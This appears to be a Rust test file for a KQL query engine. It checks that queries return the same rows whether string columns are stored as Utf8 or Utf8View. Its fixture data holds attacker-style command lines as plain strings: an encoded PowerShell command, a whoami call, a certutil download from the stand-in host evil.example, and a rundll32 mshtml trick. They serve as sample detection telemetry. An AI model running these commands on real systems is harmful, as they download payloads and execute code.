//! Workspace tables hand string columns to the engine as `Utf8View` (views into Parquet's
//! dictionary pages); `datatable` and in-memory tables use `Utf8`. A query must give the same rows
//! whichever layout its string columns have, null cells included (a KQL string is never null).

mod common;

use common::{session_with_table, string_array};
use datafusion::arrow::array::{Int64Array, LargeStringArray};
use datafusion::arrow::datatypes::DataType;
use quarry_engine::format::json_rows;
use quarry_engine::Session;
use serde_json::Value;
use std::sync::Arc;

const ROWS: usize = 300;

fn names() -> Vec<Option<&'static str>> {
    let pool = [
        Some("alice"),
        None,
        Some("Bob"),
        Some(""),
        Some("carol"),
        Some("ALICE"),
    ];
    (0..ROWS)
        .map(|i| pool[(i * 5 + i / 7) % pool.len()])
        .collect()
}

fn commands() -> Vec<Option<&'static str>> {
    let pool = [
        Some("powershell.exe -nop -EncodedCommand SQBFAFgA -ComputerName srv-01 x"),
        Some("cmd.exe /c whoami"),
        None,
        Some("certutil -urlcache -f https://evil.example/x.bin C:\\Temp\\x.bin"),
        Some("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""),
    ];
    (0..ROWS)
        .map(|i| pool[(i * 3 + i / 11) % pool.len()])
        .collect()
}

fn bags() -> Vec<Option<&'static str>> {
    let pool = [
        Some(r#"{"Tags":["a","b"],"Signer":"Microsoft"}"#),
        Some(r#"{"Tags":[],"Signer":""}"#),
        None,
        Some(r#"{"Signer":"Unknown"}"#),
    ];
    (0..ROWS).map(|i| pool[i % pool.len()]).collect()
}

/// A session holding table `E` with its string columns as `string_type`.
fn session_with(string_type: DataType) -> Session {
    let strings = |values: Vec<Option<&str>>| string_array(&values, &string_type);
    session_with_table(
        "E",
        vec![
            ("Name", strings(names())),
            ("Cmd", strings(commands())),
            ("Bag", Arc::new(LargeStringArray::from(bags()))),
            ("N", Arc::new(Int64Array::from_iter_values(0..ROWS as i64))),
        ],
    )
}

const QUERIES: &[&str] = &[
    r#"E | where Cmd has "encodedcommand" | project N"#,
    r#"E | where Cmd contains "URLCACHE" or Cmd startswith "cmd" or Cmd endswith ".bin" | project N"#,
    r#"E | where Cmd !has "whoami" and Cmd !contains_cs "Encoded" | project N"#,
    r#"E | where Name =~ "alice" | project N"#,
    r#"E | where Name in~ ("bob", "carol") | project N, Name"#,
    r#"E | where Name !in~ ("bob", "carol") | project N, Name"#,
    r#"E | where Name in ("alice", "") | project N, Name"#,
    r#"E | where Name == "" | project N"#,
    r#"E | where isempty(Name) or isnull(Cmd) | project N"#,
    r#"E | extend Host = extract(@"https?://([a-z.]+)", 1, Cmd) | project N, Host"#,
    r#"E | parse Cmd with * "-ComputerName " Target " " * | project N, Target"#,
    r#"E | extend P = split(Cmd, " ")[0], L = strlen(Name), U = toupper(Name) | project N, P, L, U"#,
    r#"E | extend S = strcat(Name, "/", Cmd), R = replace_string(Cmd, ".exe", "") | project N, S, R"#,
    r#"E | extend V = iff(isempty(Name), "none", Name), C = coalesce(Name, "x") | project N, V, C"#,
    r#"E | extend K = case(Name == "Bob", 1, Name has "alice", 2, 3) | project N, K"#,
    r#"E | extend T = tostring(Name), D = todynamic(Name) | project N, T, D"#,
    r#"E | summarize Rows = count(), Cmds = dcount(Cmd) by Name"#,
    r#"E | summarize Names = make_set(Name), Last = arg_max(N, Name) by Cmd | project Cmd, Names = array_sort_asc(Names), Last"#,
    r#"E | distinct Name"#,
    r#"E | top 7 by Name asc, N asc | project N, Name"#,
    r#"E | join kind=leftouter (E | where N < 40 and Name != "carol" | summarize M = max(N) by Name) on Name | project N, Name, Name1, M, Missing = Name1 == "" and N >= 0"#,
    r#"E | join kind=inner (E | where N < 40 | project Name, M = N) on Name | summarize count() by Name"#,
    r#"E | lookup (datatable(Name:string, Team:string)["alice", "red", "", "none"]) on Name | project N, Team"#,
    r#"E | union (datatable(Name:string, N:long)["zed", 1000]) | summarize count() by Name"#,
    r#"E | order by N asc | extend Before = prev(Name), After = next(Cmd, 2) | project N, Before, After, NoBefore = Before == "", NoAfter = After == """#,
    r#"E | mv-expand Tag = parse_json(Bag).Tags | summarize count() by tostring(Tag)"#,
    r#"E | extend Signer = tostring(parse_json(Bag).Signer) | summarize count() by Signer, Name"#,
    r#"E | project-rename Who = Name | where Who has_any ("alice", "bob") | project N"#,
    r#"E | summarize Rows = countif(Cmd has "exe") by bin(N, 50), Name"#,
];

fn sorted_rows(session: &Session, query: &str) -> Vec<String> {
    let output = session
        .run_blocking(query)
        .unwrap_or_else(|e| panic!("{query}: {e}"));
    let mut rows: Vec<String> = json_rows(&output)
        .iter()
        .map(|row| Value::Array(row.clone()).to_string())
        .collect();
    rows.sort();
    rows
}

#[test]
fn string_views_give_the_rows_utf8_gives() {
    let utf8 = session_with(DataType::Utf8);
    let views = session_with(DataType::Utf8View);
    for query in QUERIES {
        let expected = sorted_rows(&utf8, query);
        assert!(!expected.is_empty(), "{query} returns no rows");
        assert_eq!(sorted_rows(&views, query), expected, "{query}");
    }
}
